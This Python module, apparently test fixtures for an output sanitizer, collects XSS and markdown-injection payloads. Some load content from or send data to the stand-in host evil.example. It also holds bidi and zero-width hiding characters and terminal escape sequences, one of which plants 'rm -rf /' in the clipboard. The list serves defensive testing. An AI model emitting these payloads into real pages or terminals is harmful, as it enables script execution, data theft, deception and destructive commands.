"""What an agent could write to make a page run something, fetch something, or show something else than it says."""

# ruff: noqa: E501 - one attack after the other

from __future__ import annotations

TABS = ("\t", "\n", "\r", "&Tab;", "&#9;", "&NewLine;", "&#x0A;", "\x00", "\x01", "%09", "\u200b", "&colon;")
SCHEMES = ("javascript", "JaVaScRiPt", "vbscript", "data", "file", "blob", "about", "filesystem", "view-source", "jar",
           "intent", "chrome", "ms-word", "steam", "livescript", "mocha", "ws", "ftp", "tel", "sms", "x")  # fmt: skip

MARKUP = [
    "<script>owned()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>owned()//", "</script><script>owned()",
    "<img src=x onerror=owned()>", "<img/src='x'/onerror=owned()>", "<img src=//evil.example/pixel>", "<svg onload=owned()>",
    "<svg><script>owned()</script></svg>", "<svg><animate onbegin=owned() attributeName=x dur=1s>", "<svg/onload=owned()//",
    "<svg><a xlink:href='javascript:owned()'><text y=20>x</text></a></svg>", "<math><mi//xlink:href='javascript:owned()'>x",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned()></style>", "<iframe src=javascript:owned()></iframe>",
    "<iframe srcdoc='<script>parent.owned()</script>'>", "<object data='data:text/html,<script>owned()</script>'>",
    "<embed src=//evil.example/x.swf>", "<form action=javascript:owned()><input type=submit>", "<button formaction=javascript:owned()>x",
    "<isindex action=javascript:owned() type=submit>", "<input autofocus onfocus=owned()>", "<body onload=owned()>",
    "<details open ontoggle=owned()>", "<video><source onerror=owned()></video>", "<audio src=x onerror=owned()>",
    "<marquee onstart=owned()>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>*{background:url(//evil.example/x)}</style>", "<p style='background:url(//evil.example/x)'>x</p>",
    "<div style=position:fixed;inset:0>x</div>", "<template><script>owned()</script></template>", "<noscript><img src=x onerror=owned()>",
    "<x onclick=owned()>x</x>", "<a href=javascript:owned()>x</a>", "<a href='data:text/html,x'>x</a>", "<a id=wsManager>x</a>",
    "<img name=getElementById>", "<form id=document><input name=cookie>", "<portal src=//evil.example>", "<plaintext>", "<xmp><img src=x onerror=owned()>",
    "<!--><img src=x onerror=owned()>-->", "<![CDATA[<img src=x onerror=owned()>]]>", "<?xml-stylesheet href='javascript:owned()'?>",
    "<<script>script>owned()</script>", "&lt;script&gt;owned()&lt;/script&gt;", "&#60;img src=x onerror=owned()&#62;",
    "\u003cimg src=x onerror=owned()\u003e", "＜script＞owned()＜/script＞", "%3Cscript%3Eowned()%3C/script%3E", "{{constructor.constructor('owned()')()}}",
    "${owned()}", "';owned();//", '"><img src=x onerror=owned()>', "'><svg onload=owned()>", "`<img src=x onerror=owned()>`",
    "[[[[<img src=x onerror=owned()>]]]]", "<b>bold</b>", "<h1>huge</h1>", "<custom-element></custom-element>", "<ac-left at=x></ac-left>",
]  # fmt: skip

MARKDOWN = [
    *(f"[x]({scheme}:owned())" for scheme in SCHEMES),
    *(f"<{scheme}:owned()>" for scheme in SCHEMES),
    *(f"[x](java{tab}script:owned())" for tab in TABS),
    *(f"[x]({tab}javascript:owned())" for tab in TABS),
    "[x](<javascript:owned()>)", "[x](javascript&colon;owned())", "[x](&#106;avascript:owned())", "[x](\\javascript:owned())",
    "[x]: javascript:owned()\n\n[x]", "[x]: <data:text/html,x>\n\n[x][x]", "![x](javascript:owned())", "![x](//evil.example/pixel)",
    "![x](https://evil.example/pixel?secret)", "[![x](https://evil.example/pixel)](javascript:owned())", "[x](//evil.example)",
    '[x](https://a.example" onmouseover="owned())', "[x](https://a.example 'x\" onmouseover=\"owned()')", '<https://a.example/"onclick=owned()>',
    "```<img src=x onerror=owned()>\nx\n```", '```js" onclick="owned()\nx\n```', '```"><script>owned()</script>\nx\n```',
    "~~~ javascript:owned()\nx\n~~~", "`<img src=x onerror=owned()>`", "    <script>owned()</script>", "1. <img src=x onerror=owned()>",
    "> <svg onload=owned()>", "| <img src=x onerror=owned()> |\n|---|\n| <script>owned()</script> |", "# <img src=x onerror=owned()>",
    "~~<img src=x onerror=owned()>~~", "**<svg onload=owned()>**", "<!-- x --><img src=x onerror=owned()>", "a\n<div onclick=owned()>\nb",
    "<a href='javascript:owned()'>x</a>", "&lt;img src=x onerror=owned()&gt;", "99999999999999999999. x", "-1. x",
    *MARKUP,
]  # fmt: skip

TURNING = "\u202e\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069"
HIDING = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u3164\U000e0041\U000e007f"
DRIVING = "\x1b[2J\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIC8=\x07\x9b31m\x90owned\x9c\x08\x07\x00\x7f\r"
TOWER = "Z" + "\u0300" * 5_000

EVERYTHING = f'"><img src=x onerror=owned()><svg onload=owned()></script><script>owned()</script>{TURNING}{HIDING}{DRIVING}javascript:owned()'
"""For every field that is a text."""
